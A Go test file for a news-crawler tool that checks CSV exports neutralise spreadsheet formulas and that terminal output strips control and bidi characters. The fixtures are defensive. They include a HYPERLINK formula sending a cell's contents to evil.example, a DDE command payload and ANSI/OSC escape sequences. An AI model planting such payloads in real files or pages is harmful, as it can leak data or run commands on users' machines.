package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/presscrawl/presscrawl/index"
	"github.com/presscrawl/presscrawl/index/local"
	"github.com/presscrawl/presscrawl/record"
)

// hostileCells are what a site can write into a title, an author or a
// description to have a spreadsheet run it.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, "\tTAB first",
	"\rCR first", `   =1+1`, `'=already quoted`, `''@twice`, `plain title`, `a = b`, `'not a formula`, "",
}

func TestNeutraliseRoundTrips(t *testing.T) {
	for _, c := range hostileCells {
		n := index.Neutralise(c)
		if index.FormulaLike(n) {
			t.Errorf("%q escaped as %q: still a formula", c, n)
		}
		if got := index.Unneutralise(n); got != c {
			t.Errorf("%q -> %q -> %q", c, n, got)
		}
	}
	if index.Neutralise("plain title") != "plain title" || index.Neutralise("a = b") != "a = b" {
		t.Error("a cell that is no formula was changed")
	}
}

func FuzzNeutralise(f *testing.F) {
	for _, c := range hostileCells {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, c string) {
		n := index.Neutralise(c)
		if index.FormulaLike(n) || index.Unneutralise(n) != c {
			t.Fatalf("%q -> %q -> %q", c, n, index.Unneutralise(n))
		}
	})
}

// Records whose fields are formulas: exported with --bom (for Excel) every
// such cell is escaped; --formulas keep leaves them exact; pandas and
// Python's csv module read the escaped file back exactly with the
// documented one-line unescape.
func TestExportNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	l, err := local.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range hostileCells {
		r := &record.Record{ID: record.IDForURL("https://evil.example/" + string(rune('a'+i))), URL: "https://evil.example/" + string(rune('a'+i)),
			Title: c, Text: "Body " + c, Description: c, Authors: []string{c}, Tags: []string{}, ContentHash: "h" + string(rune('a'+i)), IsArticle: true}
		if _, err := l.Put(context.Background(), r); err != nil {
			t.Fatal(err)
		}
	}
	l.Close()
	_, jsonl, _ := runCtx(t, context.Background(), "export", "--data-dir", dir)
	_, escaped, _ := runCtx(t, context.Background(), "export", "--data-dir", dir, "--format", "csv", "--bom", "--fields", "id,title,authors,description,text")
	_, kept, _ := runCtx(t, context.Background(), "export", "--data-dir", dir, "--format", "csv", "--bom", "--formulas", "keep", "--fields", "id,title,authors,description,text")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(escaped, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if index.FormulaLike(cell) {
				t.Errorf("--bom export: cell %q is a formula", cell)
			}
		}
	}
	keptRows, _ := csv.NewReader(strings.NewReader(strings.TrimPrefix(kept, "\uFEFF"))).ReadAll()
	formulas := 0
	for _, row := range keptRows[1:] {
		if index.FormulaLike(row[1]) {
			formulas++
		}
	}
	if formulas < 7 {
		t.Errorf("--formulas keep: %d formula titles, want them exact", formulas)
	}
	if code, _, stderr := runCtx(t, context.Background(), "export", "--data-dir", dir, "--format", "csv", "--formulas", "run"); code != 2 || !strings.Contains(stderr, "--formulas") {
		t.Errorf("--formulas run: exit %d %q", code, stderr)
	}
	if err := exec.Command("python3", "-c", "import pandas").Run(); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("python3 with pandas is missing (.ci/run installs it)")
		}
		t.Skip("python3 with pandas is not installed")
	}
	work := t.TempDir()
	csvPath, jsonPath, script := filepath.Join(work, "e.csv"), filepath.Join(work, "all.jsonl"), filepath.Join(work, "check.py")
	os.WriteFile(csvPath, []byte(escaped), 0o644)
	os.WriteFile(jsonPath, []byte(jsonl), 0o644)
	os.WriteFile(script, []byte(`
import csv, json, re, sys
import pandas as pd
unescape = re.compile(r"^'(?='*( *[=+\-@]|[\t\r]))")
recs = {r["id"]: r for r in (json.loads(l) for l in open(sys.argv[2], encoding="utf-8"))}
def want(r, f):
    v = r.get(f) or ""
    return "; ".join(v) if isinstance(v, list) else v
df = pd.read_csv(sys.argv[1], dtype=str, keep_default_na=False, encoding="utf-8-sig")
df = df.apply(lambda s: s.str.replace(unescape, "", regex=True))
bad = sum(1 for _, row in df.iterrows() for f in df.columns if row[f] != want(recs[row["id"]], f))
with open(sys.argv[1], encoding="utf-8-sig", newline="") as fh:
    rows = list(csv.DictReader(fh))
bad += sum(1 for row in rows for f, v in row.items() if unescape.sub("", v) != want(recs[row["id"]], f))
assert bad == 0, bad
print("ok", len(df), len(rows))
`), 0o644)
	out, err := exec.Command("python3", script, csvPath, jsonPath).CombinedOutput()
	n := len(hostileCells)
	if err != nil || !strings.HasPrefix(string(out), "ok "+itoa(n)+" "+itoa(n)) {
		t.Errorf("pandas and csv reading the escaped export back: %v\n%s", err, out)
	}
	var _ = json.Marshal
}

func itoa(n int) string { b, _ := json.Marshal(n); return string(b) }

// What a site writes never reaches a terminal as control sequences:
// ESC (clear the screen, OSC 8 links), BEL, C1 controls and bidi
// overrides are dropped from show, the search and stats tables and extract
// --format text; JSON keeps the text exact.
func TestTerminalOutputIsSafe(t *testing.T) {
	hostile := "Tehran talks\x9b2J\x1b[2J\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07 \u202eevil\u202c \x9b31m end"
	dir := t.TempDir()
	l, err := local.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	r := &record.Record{ID: record.IDForURL("https://evil.example/a"), URL: "https://evil.example/a", CanonicalURL: "https://evil.example/a",
		Title: hostile, Text: "Tehran body " + hostile, SiteName: hostile, Authors: []string{hostile}, Tags: []string{}, Section: hostile,
		ContentHash: "h", IsArticle: true, Language: "en"}
	if _, err := l.Put(context.Background(), r); err != nil {
		t.Fatal(err)
	}
	l.Close()
	bad := func(s string) bool { return strings.ContainsAny(s, "\x1b\x07\u202e\u202c\u009b") }
	for _, args := range [][]string{
		{"show", "--data-dir", dir, r.ID}, {"search", "--data-dir", dir, "tehran"}, {"stats", "--data-dir", dir, "--by", "site"},
		{"stats", "--data-dir", dir, "--by", "author"}, {"history", "--data-dir", dir, r.ID},
	} {
		code, out, stderr := runCtx(t, context.Background(), args...)
		if code != 0 || bad(out) || bad(stderr) || !strings.Contains(out+stderr, "Tehran talks") || strings.Contains(out+stderr, "\x9b") {
			t.Errorf("%s: exit %d, control characters printed: %q %q", args[0], code, out, stderr)
		}
	}
	_, out, _ := runCtx(t, context.Background(), "show", "--json", "--data-dir", dir, r.ID)
	if !strings.Contains(out, `\u001b[2J`) {
		t.Errorf("show --json changed the text: %s", out)
	}
	page := filepath.Join(t.TempDir(), "p.html")
	os.WriteFile(page, []byte("<html><head><title>"+hostile+"</title></head><body><article><h1>"+hostile+"</h1><p>"+strings.Repeat("Tehran talks went on for hours with both sides. ", 20)+hostile+"</p></article></body></html>"), 0o644)
	code, out, _ := runCtx(t, context.Background(), "extract", "--format", "text", page)
	if code != 0 || bad(out) || !strings.Contains(out, "Tehran talks") {
		t.Errorf("extract --format text: exit %d %q", code, out)
	}
}

func FuzzTerminalSafe(f *testing.F) {
	f.Add("Tehran\x1b[2J\x07\u202e talks\x9b")
	f.Add("السبت ١٧ أكتوبر ٢٠٢٠\n\tline")
	f.Fuzz(func(t *testing.T, s string) {
		out := terminalSafe(s)
		for _, r := range out {
			if unsafeRune(r) {
				t.Fatalf("%q -> %q keeps %U", s, out, r)
			}
		}
		if terminalSafe(out) != out {
			t.Fatalf("not idempotent on %q", s)
		}
	})
}
